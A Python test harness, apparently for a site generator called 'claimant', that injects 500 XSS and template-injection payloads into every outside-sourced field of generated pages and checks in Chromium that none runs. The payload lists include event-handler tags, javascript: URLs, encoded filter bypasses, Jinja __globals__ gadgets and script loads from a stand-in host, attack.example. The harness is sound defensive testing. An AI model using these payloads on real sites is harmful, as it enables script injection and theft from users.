"""500 attempts to make a page do something, opened in Debian's Chromium: how many did.

    python -m bench.injections [--keep OUT]

Each payload would, where it became markup, script, a style or an address that is followed by itself, leave a mark: a value
in `window`, a dialog, a request, a navigation or a new window. They stand in every text that comes from outside: titles,
publishers, authors, agencies, addresses, names, labels, quotes, reasons, and what the publisher adds. Two controls, one page
that runs a payload and one that asks for something, show that a mark would be seen. Goal: 0 executed.
"""

from __future__ import annotations

import argparse
import itertools
import sys
import tempfile
from collections.abc import Iterator, Sequence
from dataclasses import replace
from datetime import date
from pathlib import Path

from playwright.sync_api import Page, sync_playwright
from tests.attacks import ATTACKS
from tests.tell import makers

from claimant.model import Assessment, HypothesisKind, Incident
from claimant.records import assessment_record
from claimant.tell import Imprint, Signature, tell
from claimant.tell.imprint import Changes, Correction, Grade, Resource
from claimant.tell.site import Edition, Publication, site
from claimant.weigh import weigh

CHROMIUM = "/usr/bin/chromium"
WANTED = 500
MARK = "window.__hit=1"
HOST = "attack.example"

# ---------------------------------------------------------------- payloads

_EVENTS = "onload onerror onclick onfocus onmouseover onanimationstart ontoggle onbegin onpointerenter onscroll".split()
_TAGS = (
    "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe src=x", "object data=x",
    "math", "select autofocus", "textarea autofocus", "marquee", "style", "link rel=stylesheet href=x",
)  # fmt: skip
_ENDS = ("", '">', "'>", "</title>", "</style>", "</script>", "</textarea>", "</bdi></p>", "-->", "]]>", "</svg>", "</a>", "</blockquote>", "<!--")  # fmt: skip
_CORES = (
    f"<script>{MARK}</script>",
    f"<ScRiPt>{MARK}</sCrIpT>",
    f"<script src=http://{HOST}/x.js></script>",
    f"<script type=module>import('http://{HOST}/x.js')</script>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f"<svg><set attributeName=onload to={MARK}>",
    "<svg><foreignObject><iframe srcdoc='<script>top.__hit=1</script>'></iframe></foreignObject></svg>",
    f"<svg><use href='http://{HOST}/x.svg#a'></use><image href=http://{HOST}/x.png></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}>",
    f"<math href=javascript:{MARK}>click</math>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    f"<meta http-equiv=refresh content='0;url=http://{HOST}/'>",
    f"<base href=http://{HOST}/>",
    f"<link rel=prefetch href=http://{HOST}/><link rel=stylesheet href=http://{HOST}/x.css>",
    f"<style>@import url(http://{HOST}/x.css);*{{background:url(http://{HOST}/x.png)}}</style>",
    f"<form action=http://{HOST}/><button autofocus>x</button></form><script>document.forms[0].submit()</script>",
    f"<template><script>{MARK}</script></template><noscript><p title='</noscript><img src=x onerror={MARK}>'>",
)
_ENCODED = (
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "&#x3c;img src=x onerror={}&#x3e;",
    "&amp;lt;script&amp;gt;{}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "%3Cscript%3E{}%3C/script%3E",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "<\x00script>{}</script>",
    "<scr\u00adipt>{}</scr\u200bipt>",
    "<\u202escript>{}</script>",
    "\u2028{}\u2029",
    "<<script>{}//<</script>",
    "<img\x0csrc=x\x0bonerror={}>",
    "<svg/onload={}//",
    "\ud800<script>{}</script>",
)
_TEMPLATES = (
    "{{{{ self._TemplateReference__context.cycler.__init__.__globals__ }}}}{}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{}{{% endfor %}}",
    "{{{{ '{}'|safe }}}}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    "{{{{constructor.constructor('{}')()}}}}",
    "`${{{}}}`",
)
_BREAKERS = (
    '"}}</script><script>{}</script>',
    "</script><script>{}//",
    '","now":[0]}};{};//',
    "</SCRIPT\t><script>{}</script>",
    "<!--<script>{}</script>",
    '\\"}};{};//',
    "\u2028;{};\u2029",
    '__proto__":{{"x":1}},"{}',
)
_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", " javascript:{}", "\x01javascript:{}", "javascript://a.example/%0a{}",
    "data:text/html,<script>top.{}</script>", "vbscript:{}", "blob:null/{}", "view-source:javascript:{}",
    "https://a.example/\" onfocus=\"{}\" autofocus x=\"", "https://a.example/'onfocus='{}'autofocus", "https://a.example/#\"><script>{}</script>",
    "https://u:p@a.example/{}", "//attack.example/{}", "https:\\\\attack.example\\{}", "filesystem:http://attack.example/{}", "file:///{}",
)  # fmt: skip


def payloads() -> Iterator[str]:
    """All of them, every kind in turn with every other, without repetition."""
    kinds: tuple[Iterator[str], ...] = (
        iter(ATTACKS),
        (f"<{tag} {event}={MARK}>" for event, tag in itertools.product(_EVENTS, _TAGS)),
        (f'{end}" {event}="{MARK}" tabindex=0 autofocus style="animation:x 1s' for event in _EVENTS for end in ("", "'")),
        (f"{end}{core}" for core, end in itertools.product(_CORES, _ENDS)),
        (form.format(MARK) for form in (*_ENCODED, *_TEMPLATES, *_BREAKERS, *_SCHEMES)),
    )  # fmt: skip
    yield from dict.fromkeys(one for row in itertools.zip_longest(*kinds) for one in row if one is not None)


# ---------------------------------------------------------------- pages that hold them


def attacked(texts: Sequence[str]) -> Assessment:
    """An assessment in which every text from outside is one of `texts`, in turn."""
    turn = itertools.cycle(texts)

    def text() -> str:
        return next(turn)

    case = makers.case()
    sources = tuple(
        replace(
            source, title=text(), publisher=text(), author=text(), note=text(), place=text(), language=text(), address=text(),
            found_at=text(), agency=text(),
        )
        for source in case.sources
    )  # fmt: skip
    heard = tuple(
        replace(
            one,
            reason=text(),
            incident=text(),
            statement=replace(one.statement, quote=replace(one.statement.quote, text=text())),
        )
        for one in case.heard
    )
    tolls = tuple(
        replace(toll, figure=replace(toll.figure, quote=replace(toll.figure.quote, text=text()))) for toll in case.tolls
    )
    hypotheses = tuple(
        replace(one, label=text()) if one.kind not in {HypothesisKind.UNNAMED, HypothesisKind.ACCIDENT} else one
        for one in case.hypotheses
    )
    case = replace(
        case,
        question=text(),
        incident=Incident(id="x", title=text(), place=text(), date=case.incident.date, names=(text(),), kind=text()),
        actors=tuple(replace(actor, name=text()) for actor in case.actors),
        sources=sources,
        heard=heard,
        tolls=tolls,
        hypotheses=hypotheses,
        origins=tuple(
            replace(one, agency=text(), links=tuple(replace(link, reason=text(), how=text()) for link in one.links))
            for one in case.origins
        ),
    )
    made = weigh(case)
    return replace(
        made,
        method=text(),
        verdict=replace(made.verdict, sentence=text(), cause=text(), confidence=text()),
        hypotheses=tuple(replace(one, words=text()) for one in made.hypotheses),
        evidence=tuple(replace(one, reason=text()) for one in made.evidence),
        missing=tuple(replace(one, what=text()) for one in made.missing),
    )


def imprint(texts: Sequence[str]) -> Imprint:
    """What a publisher adds, with one of `texts` in each field."""
    turn = itertools.cycle(texts)
    at = date(2031, 5, 9)

    def text() -> str:
        return next(turn)

    return Imprint(
        series=text(), number=7, author=text(), day=at, topics=(text(), text()), country=text(), newsletter=text(),
        newsletter_address=text(), grades=(Grade(of=text(), grade="B", because=text()),),
        corrections=(Correction(day=at, text=text()),), resources=(Resource(name=text(), address=text(), does=text()),),
        changes=Changes(since=at, lines=(text(), text())), signed=Signature(by=text(), day=at, despite=text()),
    )  # fmt: skip


def pages(texts: Sequence[str]) -> Iterator[tuple[str, str]]:
    """The brief's two pages, the site's pages and its feeds with `texts` in them: (path, text)."""
    added = imprint(texts)
    assessment = attacked(texts)
    brief = tell(assessment, added)
    for name, text in brief.files:
        if name.endswith(".html"):
            yield name, text
    verdict = assessment_record(assessment)["verdict"]["sentence"]
    edition = Edition(
        slug="7-x", title=texts[0], answer=verdict, established=False, day=date(2031, 5, 9), imprint=added, actors=tuple(texts[:12])
    )  # fmt: skip
    publication = Publication(
        title=texts[-1], address="https://briefs.example/", about=texts[len(texts) // 2], contact=texts[len(texts) // 3]
    )
    for path, text in site([edition], publication):
        yield f"site/{path}", text


# ---------------------------------------------------------------- in the browser


def hits(page: Page, file: Path) -> list[str]:
    """What the file did once it was open: marks, dialogs, requests that are not its own, windows, navigations."""
    seen: list[str] = []
    own = {file.as_uri(), (file.parent / "style.css").as_uri(), (file.parent.parent / "style.css").as_uri()}

    def asked(url: str) -> None:
        if url not in own and not url.startswith(("data:,", "about:blank")):
            seen.append(f"request {url[:200]}")

    def said(kind: str, text: str) -> None:
        seen.append(f"{kind}: {text[:200]}")

    page.on("request", lambda request: asked(request.url))
    page.on("dialog", lambda dialog: (said("dialog", dialog.message), dialog.dismiss()))
    page.on("popup", lambda popup: said("window", popup.url))
    page.on("console", lambda message: said("console", message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: said("error", str(error)))
    page.goto(file.as_uri(), wait_until="load")
    page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true; })")
    page.evaluate(_PROVOKE)
    page.wait_for_timeout(150)
    if page.url.split("#")[0] != file.as_uri():
        seen.append(f"went to {page.url[:200]}")
    if page.evaluate("window.__hit"):
        seen.append("a script ran")
    strange = page.evaluate(_STRANGE)
    seen.extend(f"markup {one}" for one in strange)
    return seen


_PROVOKE = """() => { for (const one of document.querySelectorAll("[tabindex], input, a")) one.dispatchEvent(new Event("focus"));
  for (const one of document.querySelectorAll("*")) for (const kind of ["mouseover", "pointerenter", "error", "load", "toggle"])
    if (one.tagName !== "DETAILS" || kind !== "toggle") one.dispatchEvent(new Event(kind)); }"""
_STRANGE = """() => { const bad = ["javascript:", "vbscript:", "blob:", "filesystem:", "view-source:", "data:"];
  const scheme = value => { try { return new URL(value, document.baseURI).protocol; } catch { return ""; } };
  return [...document.querySelectorAll("*")].flatMap(one => [...one.attributes]
    .filter(a => /^on/i.test(a.name) || (/href|src|action|^data$/i.test(a.name) && a.value !== "data:," && bad.includes(scheme(a.value))))
    .map(a => one.tagName + " " + a.name + "=" + a.value.slice(0, 80))); }"""
"""Handlers, and addresses that would run or show something of the payload's own, although nothing has followed them yet."""

CONTROLS = {
    "control-script.html": f"<!DOCTYPE html><title>x</title><img src=data:, onerror='{MARK}'>",
    "control-request.html": f"<!DOCTYPE html><title>x</title><img src=http://{HOST}/x.png>",
}


def tried(folder: Path, texts: Sequence[str], each: int) -> tuple[int, int, dict[str, list[str]]]:
    """Open pages with `each` payloads at a time: how many payloads, how many pages, and what the pages did."""
    found: dict[str, list[str]] = {}
    opened = 0
    with sync_playwright() as player:
        browser = player.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        try:
            for name, text in CONTROLS.items():
                _opened(browser.new_page(), folder / name, text) or _fail(
                    f"{name}: nothing was seen, so nothing would be"
                )
            for start in range(0, len(texts), each):
                made = dict(pages(texts[start : start + each]))
                style = "site/style.css"
                _written(folder / f"{start:03}" / style, made.pop(style))
                for name, text in made.items():
                    file = folder / f"{start:03}" / name
                    if not name.endswith(".html"):
                        file = file.with_name(
                            f"{file.name}.xml"
                        )  # feeds, as the browser's own reader of XML shows them
                    opened += 1
                    page = browser.new_page()
                    if seen := _opened(page, file, text):
                        found[f"{start:03}/{name}"] = seen
        finally:
            browser.close()
    return len(texts), opened, found


def _written(file: Path, text: str) -> None:
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text, encoding="utf-8")


def _opened(page: Page, file: Path, text: str) -> list[str]:
    _written(file, text)
    try:
        return hits(page, file)
    finally:
        page.close()


def _fail(why: str) -> None:
    raise SystemExit(why)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--keep", type=Path, metavar="OUT", help="a folder to keep the pages in")
    keep = parser.parse_args().keep
    texts = list(itertools.islice(payloads(), WANTED))
    if len(texts) < WANTED:
        _fail(f"only {len(texts)} payloads")
    with tempfile.TemporaryDirectory() as scratch:
        count, opened, found = tried((keep or Path(scratch)).resolve(), texts, 25)
    for name, seen in found.items():
        for one in seen[:5]:
            print(f"{name}: {one}")
    print(f"{count} injections in {opened} pages of briefs and sites: {sum(map(len, found.values()))} executed")
    sys.exit(1 if found else 0)


if __name__ == "__main__":
    main()
